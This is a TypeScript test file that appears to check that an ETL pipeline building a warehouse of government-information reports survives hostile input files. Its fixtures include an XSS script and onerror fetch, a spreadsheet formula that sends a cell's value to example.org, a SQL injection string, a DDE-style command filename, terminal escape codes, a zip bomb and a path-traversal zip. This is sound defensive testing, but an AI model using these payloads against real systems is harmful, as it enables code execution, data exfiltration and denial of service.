import {existsSync, mkdirSync} from "node:fs";
import {join} from "node:path";
import {afterAll, beforeAll, describe, it, expect} from "vitest";
import type {BuildSummary} from "../../src/etl/build.js";
import {buildWarehouse} from "../../src/etl/pipeline.js";
import {runQuery} from "../../src/etl/warehouse/query.js";
import {printCase} from "../../src/synth/cases.js";
import {FORMATS_BY_NAME} from "../../src/synth/formats/formats.js";
import {createRandom} from "../../src/synth/random.js";
import type {Sheet} from "../../src/synth/sheet.js";
import {makeBomb, makeZip} from "./document/makeZip.js";
import {makeCorpus} from "./source/temporaryCorpus.js";
import type {TemporaryCorpus} from "./source/temporaryCorpus.js";

const MEGABYTES = 10 * 1024 * 1024;
const SLOW = {timeout: 120_000};

/** What people who mean harm write where others write text. */
const SCRIPT = `<script>require("node:fs").writeFileSync("PWNED", "")</script><img src=x onerror="fetch('//example.org')">`;
const FORMULA = `=HYPERLINK("http://example.org/?"&A1,"政府信息")`;
const STATEMENT = `'; drop table report; --`;
const TERMINAL = "\u001b]0;owned\u0007\u001b[2J";

let place: TemporaryCorpus;
let out: string;
let summary: BuildSummary;

/** A report that is sound but for what stands in its title and its sections. */
async function makePage(): Promise<Uint8Array> {
  const format = FORMATS_BY_NAME.html;
  const made = printCase(1, "html", format);
  if (made === undefined) throw new Error("no report made");
  const sections = made.sheet.sections.map((section) => ({
    ...section,
    paragraphs: [...section.paragraphs, SCRIPT, FORMULA, STATEMENT, TERMINAL],
  }));
  const sheet: Sheet = {...made.sheet, sections};
  const html = new TextDecoder().decode(await format.render(sheet, createRandom(1, "layout")));
  const live = `${SCRIPT}<iframe src="//example.org"></iframe><link rel=stylesheet href="//example.org/x.css">`;
  return new TextEncoder().encode(html.replace("<body>", `<body onload="alert(1)">${live}`));
}

async function select(sql: string): Promise<unknown[]> {
  return (await runQuery(out, sql)).rows.map(([cell]) => cell);
}

beforeAll(async () => {
  place = makeCorpus();
  out = join(place.folder, "warehouse");
  const corpus = join(place.folder, "reports");
  mkdirSync(corpus);
  const page = await makePage();
  place.put("reports/page.html", page);
  place.put(`reports/${STATEMENT}.txt`, STATEMENT);
  place.put("reports/=cmd|' /C calc'!A0.md", FORMULA);
  place.put("reports/many.html", "<td>".repeat(MEGABYTES / 4));
  place.put("reports/deep.html", "<div>".repeat(MEGABYTES / 5));
  place.put("reports/rows.html", `<table>${"<tr><td>1".repeat(MEGABYTES / 9)}`);
  place.put("reports/long.txt", "一、".repeat(MEGABYTES / 60));
  place.put("reports/digits.txt", `三、收到和处理政府信息公开申请情况${"1".repeat(MEGABYTES / 10)}`);
  place.put("reports/bomb.zip", await makeBomb());
  place.put("reports/climbing.zip", await makeZip({"x/x/etc/passwd": "root"}));
  summary = await buildWarehouse({corpus: [corpus], out});
}, SLOW.timeout);

afterAll(() => {
  place.remove();
});

describe("buildWarehouse(options): hostile files", () => {
  it("reads the one report, and lists every other file with a reason", async () => {
    expect(await select("select path from source where role = 'primary'")).toEqual(["page.html"]);
    expect(Object.fromEntries(summary.rejected.map(({path, reason}) => [path, reason.split(":")[0]]))).toEqual({
      [`${STATEMENT}.txt`]: "not_a_report",
      "=cmd|' /C calc'!A0.md": "not_a_report",
      "bomb.zip": "limit_exceeded",
      "climbing.zip/x/x/etc/passwd": "unsupported_type",
      "deep.html": "limit_exceeded",
      "digits.txt": expect.stringMatching(/^(not_a_report|year_unknown|blank_form|limit_exceeded)$/) as string,
      "long.txt": "not_a_report",
      "many.html": "not_a_report",
      "rows.html": "limit_exceeded",
    });
  });

  it("runs no script and fetches nothing", () => {
    expect(existsSync("PWNED")).toBe(false);
  });

  it("keeps what looks like a script, a formula or a statement as the text that it is", async () => {
    const [text] = await select("select text from section where ordinal = 5");
    for (const line of [SCRIPT, FORMULA, STATEMENT]) expect(text).toContain(line);
  });

  it("leaves the text of scripts, frames and styles out", async () => {
    const texts = await select("select text from section union all select title from report");
    expect(texts.filter((text) => String(text).includes("alert(1)"))).toEqual([]);
  });

  it("keeps every table", async () => {
    expect(await select("select count(*)::integer from report")).toEqual([1]);
    expect(await select(`select path from source where path like '%drop table%'`)).toEqual([`${STATEMENT}.txt`]);
  });
});
